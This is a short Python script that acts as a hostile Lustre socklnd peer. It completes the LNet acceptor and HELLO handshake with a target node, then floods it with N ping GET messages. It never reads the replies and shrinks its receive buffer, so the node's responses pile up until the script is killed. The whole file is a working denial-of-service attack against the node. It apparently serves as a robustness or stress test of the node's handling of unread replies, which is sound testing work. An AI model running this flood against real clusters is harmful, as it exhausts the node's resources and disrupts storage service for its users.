#!/usr/bin/env python3
# SPDX-License-Identifier: MIT
# A hostile socklnd peer: one connection (acceptor request, HELLO V3 CONTROL), then N LNet ping GETs
# sent back to back, and never a byte read after the handshake, so every REPLY the node makes stays
# queued on its side. Prints "sent N" once the GETs are in the socket, then holds the connection open
# until killed. Encoders written from lnet-wire.md §2.3, §2.4, §2.6 (as many_peers.py).
# Usage: flood_gets.py NODE_ADDR SRC_ADDR N
import socket, struct, sys, time

node_ip, src_ip, n = sys.argv[1], sys.argv[2], int(sys.argv[3])
SOCKLND = 2
def nid(ip):
    return (SOCKLND << 48) | struct.unpack("!I", socket.inet_aton(ip))[0]
dst, src = nid(node_ip), nid(src_ip)

def recv_exact(s, k):
    b = b""
    while len(b) < k:
        c = s.recv(k - len(b))
        if not c:
            raise EOFError("connection closed after %d of %d bytes" % (len(b), k))
        b += c
    return b

s = socket.socket()
s.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEADDR, 1)
s.setsockopt(socket.SOL_SOCKET, socket.SO_RCVBUF, 4096)  # do not let the kernel absorb the replies
s.bind((src_ip, 1022))
s.settimeout(60)
s.connect((node_ip, 988))
s.sendall(struct.pack("<IIQ", 0xacce7100, 1, dst))
s.sendall(struct.pack("<IIQQIIQQII", 0x45726963, 3, src, dst, 12345, 0, 4242, 0, 1, 0))
magic, ver = struct.unpack("<II", recv_exact(s, 56)[:8])
assert magic == 0x45726963 and ver == 3, (hex(magic), ver)

def get(i):
    # ksock_msg (LNET) + lnet_hdr GET for the ping portal 0 / LNET_PROTO_PING_MATCHBITS
    body = struct.pack("<QQQIII", 0x1111, i, 0x8000000000000000, 0, 0, 3960).ljust(40, b"\0")
    lhdr = struct.pack("<QQIIII", dst, src, 12345, 12345, 2, 0) + body
    return struct.pack("<IIQQ", 0xc1, 0, 0, 0) + lhdr

batch = 1000
for start in range(0, n, batch):
    s.sendall(b"".join(get(i) for i in range(start, min(n, start + batch))))
print("sent %d" % n, flush=True)
while True:
    time.sleep(60)
